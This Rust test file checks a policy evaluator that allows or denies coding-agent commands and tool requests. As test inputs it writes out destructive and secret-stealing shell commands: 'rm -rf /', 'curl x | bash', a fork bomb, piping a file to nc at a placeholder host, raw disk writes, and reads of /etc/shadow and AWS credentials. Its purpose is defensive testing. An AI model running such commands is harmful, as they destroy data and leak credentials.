//! What each key of a policy means, through the compiler and the evaluator: one line per key and
//! per rule of the language.

#![allow(clippy::panic, clippy::unwrap_used, reason = "a test fails by panicking")]

mod support;

use evaluator::request::Params;
use evaluator::{Action, Call, Caller, Request, Target, TargetKinds};
use policy_schema::Layer;
use support::{argv, image, judge, request, shell};

struct Named(&'static [(&'static str, &'static str)]);

impl Params for Named {
    fn any(&self, each: &mut dyn FnMut(&[u8], &[u8]) -> bool) -> bool {
        self.0.iter().any(|(name, value)| each(name.as_bytes(), value.as_bytes()))
    }
}

/// A policy with one rule under a default.
fn one_rule(default: &str, action: &str, when: &str) -> Vec<u8> {
    let text = format!(
        "default_action: {default}\non_unparseable: allow\npolicies:\n  - name: p\n    rules:\n      - action: {action}\n        when: {when}\n"
    );
    image(&text, Layer::User)
}

#[test]
fn conditions_on_commands() {
    #[rustfmt::skip]
    let cases = [
        ("{program: rm}", "rm x", true),
        ("{program: [rm]}", "/bin/rm x", true),
        ("{program: [RM]}", "rm x", true),
        ("{program: [rm, dd]}", "dd x", true),
        ("{program: rm}", "rmdir x", false),
        ("{program: python*}", "python3.11 x", true),
        ("{program: python*}", "ipython x", false),
        ("{subcommand: push}", "git push", true),
        ("{subcommand: push}", "git -C dir push", true),
        ("{subcommand: push}", "git log push", false),
        ("{flags: -r}", "rm -fr x", true),
        ("{flags: [-r, -f]}", "rm -fr x", true),
        ("{flags: [-r, -f]}", "rm -r x", false),
        ("{flags: [[-r, --recursive], -f]}", "rm --recursive -f x", true),
        ("{flags: [[-r, -R, --recursive]]}", "rm --recurs x", true),
        ("{flags: -r}", "rm -- -r", false),
        ("{operands: [/etc/**]}", "cat ../../etc/./passwd", true),
        ("{operands: [/etc/**]}", "cat etc/passwd", false),
        ("{operands: [~/.ssh/**]}", "cat /home/user/.ssh/id", true),
        ("{operands: [~/.ssh/**]}", "cat /root/.ssh/id", true),
        ("{operands: [~]}", "rm /home/user/", true),
        ("{operands: [-x]}", "rm -x", false),
        ("{operands: [-x]}", "rm -x -- -x", true),
        ("{operands: [-x]}", "rm -x 1 2 3 4 5 6 7 -- -x", true),
        ("{operands: [/work/project/**]}", "cat a/b", true),
        ("{operands: [a/*]}", "cat a/b", true),
        ("{operands: [a/*]}", "cat /a/b", false),
        ("{operands: [a/*]}", "cat /work/project/./a/b", true),
        ("{operands: [/dev/sd*]}", "dd of=/dev/sda", true),
        ("{operands: [/etc/*]}", "cat /etc/a/b", false),
        ("{operand_matches: [\"*:/*\"]}", "docker run -v /:/host", true),
        ("{operand_matches: [now]}", "at now", true),
        ("{operand_matches: [now]}", "at -now", false),
        ("{writes: [/etc/**]}", "tee /etc/x", true),
        ("{writes: [/etc/**]}", "cp a /etc/x", true),
        ("{writes: [/etc/**]}", "cp /etc/x a", false),
        ("{writes: [/dev/sd*]}", "dd if=x of=/dev/sdb", true),
        ("{reads: [/dev/sd*]}", "dd if=/dev/sdb of=x", true),
        ("{command_env_assignments: [LD_*]}", "env LD_PRELOAD=x ls", true),
        ("{command_env_assignments: [LD_*]}", "env PATH=x ls", false),
        ("{command_env_assignments: ['NODE_OPTIONS=**--require**']}", "env NODE_OPTIONS=--require=/x node", true),
        ("{command_env_assignments: ['NODE_OPTIONS=**--require**']}", "env NODE_OPTIONS=--inspect node", false),
        ("{command_matches: ['rm -rf *']}", "rm -rf /", true),
        ("{command_matches: ['rm -rf *']}", "/bin/rm -rf /", true),
        ("{command_matches: ['rm -rf *']}", "rm -r /", false),
        ("{command_matches: ['rm -rf /']}", "rm -fr //", true),
        ("{command_matches: ['rm -rf /']}", "rm -r --force /tmp /", true),
        ("{command_matches: ['rm -rf /']}", "rm -r /", false),
        ("{command_matches: ['git push ** --force']}", "git push a/b --force", true),
        ("{command_contains: [SECRET]}", "echo the_secret", true),
        ("{command_matches: ['a *'], command_contains: [zz]}", "b zz", true),
        ("{command_matches: ['a *'], command_contains: [zz]}", "a b", true),
        ("{command_matches: ['a *'], command_contains: [zz]}", "b c", false),
        ("{command_matches: ['a *'], command_not_matches: ['a b*']}", "a c", true),
        ("{command_matches: ['a *'], command_not_matches: ['a b*']}", "a b", false),
        ("{command_not_matches: ['a b*']}", "c", true),
        ("{command_not_matches: ['a b*']}", "a b", false),
        ("{sql: drop-table}", "psql -c drop/**/table", true),
        ("{sql: [drop-database, truncate]}", "mysql --execute=truncate", true),
        ("{sql: drop-table}", "psql -c 'drop", false),
        ("{effects: deletes_outside_cwd}", "rm -r ../x", true),
        ("{effects: deletes_outside_cwd}", "rm -r x", false),
        ("{effects: [sends, runs_fetched_code]}", "curl https://x.test/a -d b", true),
        ("{effects: [sends, runs_fetched_code]}", "curl https://x.test/a", false),
        ("{fact: fork-bomb}", "ls", false),
        ("{any: [{program: rm}, {program: dd}]}", "dd x", true),
        ("{any: [{program: rm}, {flags: -x}]}", "ls -y", false),
        ("{all: [{program: rm}, {flags: -x}]}", "rm -x", true),
        ("{all: [{program: rm}, {flags: -x}]}", "rm -y", false),
        ("{not: {program: rm}}", "ls", true),
        ("{not: {program: rm}}", "rm", false),
        ("{not: {program: rm, flags: -r}}", "rm x", true),
        ("{program: rm, not: {any: [{flags: -i}, {operands: [/tmp/**]}]}}", "rm /tmp/x", false),
        ("{program: rm, not: {any: [{flags: -i}, {operands: [/tmp/**]}]}}", "rm /x", true),
        ("{program: rm, flags: -r, operands: [/]}", "rm -r /", true),
        ("{program: rm, flags: -r, operands: [/]}", "rm -r x", false),
        ("{default: true}", "ls", true),
        ("{default: true, program: rm}", "ls", false),
        ("{default: true, program: rm}", "rm", true),
        ("{}", "ls", true),
        ("{path_matches: ['**']}", "ls", false),
        ("{path_not_matches: ['/x']}", "ls", false),
        ("{url_matches: ['*']}", "ls", false),
        ("{response_matches: [x]}", "ls", false),
        ("{response_not_matches: [x]}", "ls", false),
        ("{not: {response_matches: [x]}}", "ls", false),
        ("{session_not_matches: [x]}", "ls", true),
        ("{agent_depth: {gte: 1}}", "ls", false),
        ("{agent_depth: {lte: 1}}", "ls", true),
        ("{agent_depth: {eq: 0}}", "ls", true),
        ("{call_count: {gte: 3, window: 1h}}", "ls", true),
        ("{target: [static]}", "ls", false),
    ];
    for (when, line, fires) in cases {
        let policy = one_rule("allow", "deny", when);
        let expected = if fires { Action::Deny } else { Action::Allow };
        assert_eq!(argv(&[&policy], line), expected, "{when} on {line}");
    }
}

#[test]
fn grants_are_exact() {
    #[rustfmt::skip]
    let cases = [
        ("{program: ls}", "ls x", true),
        ("{program: ls}", "rm x", false),
        ("{command_contains: [SECRET]}", "echo secret", false),
        ("{command_contains: [secret]}", "echo secret", true),
        ("{operands: [~/x]}", "cat /root/x", false),
        ("{operands: [~/x]}", "cat /home/user/x", true),
        ("{flags: --recursive}", "ls --recurs", false),
        ("{call_count: {gte: 3, window: 1h}}", "ls", false),
        ("{command_matches: ['rm -rf /tmp/**']}", "rm -rf /tmp/a /tmp/b", true),
        ("{command_matches: ['rm -rf /tmp/**']}", "rm -rf /tmp/a /etc", false),
    ];
    for (when, line, fires) in cases {
        let policy = one_rule("deny", "allow", when);
        let expected = if fires { Action::Allow } else { Action::Deny };
        assert_eq!(argv(&[&policy], line), expected, "{when} on {line}");
    }
}

#[test]
fn conditions_on_requests() {
    let base = request("read", Call::Nothing);
    let caller = |agent: &'static str, session: &'static str| Caller {
        agent: agent.as_bytes(),
        session: session.as_bytes(),
        agent_depth: 2,
    };
    let path = |path: &'static str| Request { path: Some(path.as_bytes()), ..base };
    let url = |url: &'static str| Request { url: Some(url.as_bytes()), ..base };
    let params = Named(&[("Env", "PROD-1"), ("other", "x")]);
    let called = Request { params: &params, ..base };
    let by = |agent, session| Request { caller: caller(agent, session), ..base };
    let linked = Target { kinds: TargetKinds::STATIC, ..Target::default() };
    #[rustfmt::skip]
    let cases = [
        ("{path_matches: ['**/.env']}", path("/a/.env"), true),
        ("{path_matches: ['**/.env']}", path("sub/.env"), true),
        ("{path_matches: ['./**']}", path("sub/a/b"), true),
        ("{path_matches: ['./**']}", path("/etc/a"), false),
        ("{path_matches: ['./sub/long/name']}", path("sub/long/name"), true),
        ("{path_not_matches: ['./**']}", path("sub/a"), false),
        ("{path_not_matches: ['./**']}", path("../a"), true),
        ("{path_matches: ['sub/**']}", path("sub/a/b"), true),
        ("{path_matches: ['sub/**']}", path("/etc/sub/a"), false),
        ("{path_matches: ['/etc/*']}", path("/etc/a/b"), false),
        ("{path_matches: ['/etc/**']}", path("/work/../etc/a"), true),
        ("{path_matches: [~/.aws/credentials]}", path("/home/user/.aws/credentials"), true),
        ("{path_matches: [~/.aws/credentials]}", path("~/.aws/credentials"), true),
        ("{path_matches: [~/.aws/credentials]}", path("~root/.aws/credentials"), false),
        ("{path_matches: ['/**'], path_not_matches: ['/work/**']}", path("/work/x"), false),
        ("{path_matches: ['/**'], path_not_matches: ['/work/**']}", path("/etc/x"), true),
        ("{path_not_matches: ['/work/**']}", path("/etc/x"), true),
        ("{path_not_matches: ['/work/**']}", base, false),
        ("{url_matches: ['https://x.com/*']}", url("https://x.com/a/b"), true),
        ("{url_matches: ['https://x.com/*']}", url("https://y.com/a"), false),
        ("{domain_matches: ['*.X.com']}", url("https://a.x.COM:8080/b"), true),
        ("{domain_matches: ['x.com']}", url("https://x.com./"), true),
        ("{session_matches: ['main*']}", by("", "main/2"), true),
        ("{session_matches: ['main*']}", by("", "other"), false),
        ("{session_not_matches: ['main*']}", by("", "other"), true),
        ("{agent_depth: {gte: 2}}", by("", ""), true),
        ("{agent_depth: {gte: 1, lte: 1}}", by("", ""), false),
        ("{tool_param_matches: {env: 'prod*'}}", called, true),
        ("{tool_param_matches: {env: 'dev*', OTHER: X}}", called, true),
        ("{tool_param_matches: {env: 'dev*'}}", called, false),
        ("{tool_param_matches: {env: ['dev*', 'prod*']}}", called, true),
        ("{target: [static, memfd]}", Request { target: linked, ..base }, true),
        ("{target: [set-id]}", Request { target: linked, ..base }, false),
        ("{program: rm}", base, false),
    ];
    for (when, request, fires) in cases {
        let policy = one_rule("allow", "deny", when);
        let expected = if fires { Action::Deny } else { Action::Allow };
        assert_eq!(judge(&[&policy], &request), expected, "{when}");
    }
}

#[test]
fn scopes() {
    #[rustfmt::skip]
    let cases = [
        ("{}", true),
        ("{tool: exec}", true),
        ("{tool: [read, exec]}", true),
        ("{tool: [read]}", false),
        ("{tool: []}", true),
        ("{tool: 'e*'}", true),
        ("{tool: EXEC}", false),
        ("{agent: 'claude*'}", true),
        ("{agent: '*'}", true),
        ("{agent: codex}", false),
        ("{session: s}", true),
        ("{session: t}", false),
    ];
    let words: &[&[u8]] = &[b"ls"];
    let caller = Caller { agent: b"claude-code", session: b"s", agent_depth: 0 };
    let call = Call::Exec { file: b"ls", argv: &words };
    for (scope, fires) in cases {
        let text = format!(
            "default_action: allow\npolicies: [{{name: p, match: {scope}, rules: [{{action: deny}}]}}]"
        );
        let policy = image(&text, Layer::User);
        let expected = if fires { Action::Deny } else { Action::Allow };
        let request = Request { caller, ..request("exec", call) };
        assert_eq!(judge(&[&policy], &request), expected, "{scope}");
    }
}

#[test]
fn order_and_layers() {
    let policy = |text: &str, layer| image(text, layer);
    let user =
        |rules: &str| policy(&format!("default_action: allow\npolicies: {rules}"), Layer::User);
    #[rustfmt::skip]
    let cases = [
        // Inside a policy the first rule that holds answers.
        ("[{name: a, rules: [{action: allow, when: {program: ls}}, {action: deny}]}]", Action::Allow),
        ("[{name: a, rules: [{action: deny}, {action: allow, when: {program: ls}}]}]", Action::Deny),
        // Across policies the strictest counts, whatever the priority.
        ("[{name: a, priority: 1, rules: [{action: allow}]}, {name: b, rules: [{action: ask}]}]", Action::Ask),
        ("[{name: a, rules: [{action: watch}]}, {name: b, rules: [{action: allow}]}]", Action::Watch),
        ("[{name: a, rules: [{action: log}]}]", Action::Watch),
        ("[{name: a, enabled: false, rules: [{action: deny}]}]", Action::Allow),
        ("[{name: a, rules: [{action: deny, expires_at: 2001-01-01}]}]", Action::Deny),
        ("[{name: a, rules: [{action: deny, once: true}]}]", Action::Deny),
    ];
    for (policies, expected) in cases {
        assert_eq!(argv(&[&user(policies)], "ls"), expected, "{policies}");
    }
    let granting = policy(
        "default_action: deny\npolicies: [{name: a, rules: [{action: allow, once: true}]}]",
        Layer::User,
    );
    assert_eq!(argv(&[&granting], "ls"), Action::Deny, "nobody can use a once rule up here");
    let silent = policy("policies: []", Layer::User);
    let open = policy("default_action: allow", Layer::BuiltIn);
    assert_eq!(argv(&[&silent], "ls"), Action::Deny, "no layer states a default");
    assert_eq!(argv(&[&open, &silent], "ls"), Action::Allow, "a lower layer states it");
    let strict = policy("default_action: ask", Layer::Project);
    assert_eq!(argv(&[&open, &strict], "ls"), Action::Ask, "a project may be stricter");
    let loose = policy(
        "default_action: allow\npolicies: [{name: a, rules: [{action: allow}]}]",
        Layer::Project,
    );
    let closed = policy("default_action: deny", Layer::User);
    assert_eq!(argv(&[&closed, &loose], "ls"), Action::Deny, "and never looser");
}

#[test]
fn shell_text_is_looked_into() {
    #[rustfmt::skip]
    let cases = [
        ("{program: rm}", "ls; rm x", true),
        ("{program: rm}", "echo rm", false),
        ("{not: {program: ls}}", "ls", false),
        ("{not: {program: ls}}", "ls; id", true),
        ("{program: rm}", "echo $(rm x)", true),
        ("{command_matches: ['curl ** | bash']}", "curl x | bash", true),
        ("{command_matches: ['curl ** | bash']}", "bash -lc 'curl x | bash'", true),
        ("{command_matches: ['rm -rf /']}", "rm -rf / 2>/dev/null", true),
        ("{command_matches: ['rm -rf /var/**'], command_not_matches: ['rm -rf /var/log/**']}", "rm -rf /var/log/x", false),
        ("{command_matches: ['rm -rf /var/**'], command_not_matches: ['rm -rf /var/log/**']}", "rm -rf /var/log/x; rm -rf /var/x", true),
        ("{program: cat, inside: [substitution]}", "echo $(cat x)", true),
        ("{program: cat, inside: [substitution]}", "cat x", false),
        ("{program: cat, pipes_into: [nc]}", "cat x | gzip | nc h 1", true),
        ("{program: cat, pipes_into: [nc]}", "cat x; nc h 1", false),
        ("{writes: [/etc/**]}", "echo x >> /etc/y", true),
        ("{program: cat, pipes_into: [diff]}", "diff <(cat x) y", true),
        ("{program: cat, pipes_into: [nc]}", "tee <(cat x) | nc h 1", true),
        ("{program: cat, pipes_into: [diff]}", "diff $(cat x) y", false),
        ("{program: cat, pipes_into: [tee]}", "cat x; diff <(ls) y | tee z", false),
        ("{operands: [/etc/shadow, ~/.aws/credentials]}", "cat /etc/sh?dow", true),
        ("{operands: [/etc/shadow, ~/.aws/credentials]}", "cat ~/.aws/cred*", true),
        ("{operands: [/etc/shadow, ~/.aws/credentials]}", "cat '/etc/sh?dow'", false),
        ("{operands: [/etc/shadow, ~/.aws/credentials]}", "cat src/*", false),
        ("{operands: [/etc/shadow, ~/.aws/credentials]}", "cat ~/*/credentials", false),
        ("{reads: [/etc/**]}", "wc -l < /etc/y", true),
        ("{reads: [/etc/**]}", "wc -l > /etc/y", false),
        ("{fact: fork-bomb}", ":(){ :|:& };:", true),
        ("{fact: fetched-code}", "curl x | sh", true),
        ("{fact: unknown-code}", "eval \"$X\"", true),
        ("{sql: drop-table}", "psql <<< 'drop table x'", true),
        ("{command_env_assignments: [A]}", "A=1 ls", true),
    ];
    for (when, text, fires) in cases {
        let policy = one_rule("allow", "deny", when);
        let expected = if fires { Action::Deny } else { Action::Allow };
        assert_eq!(shell(&[&policy], text), expected, "{when} on {text}");
    }
}

#[test]
fn what_is_not_known_does_not_hide_a_stricter_rule() {
    // Only a second party knows the count, so the ask counts as holding; the deny surely holds.
    let counted = "{action: ask, when: {call_count: {gte: 9, window: 1h}}}";
    let rules = format!("[{counted}, {{action: deny, when: {{program: rm}}}}, {{action: allow}}]");
    let text = format!("default_action: allow\npolicies: [{{name: p, rules: {rules}}}]");
    let policy = image(&text, Layer::User);
    assert_eq!(argv(&[&policy], "rm x"), Action::Deny);
    assert_eq!(argv(&[&policy], "ls"), Action::Ask);
}
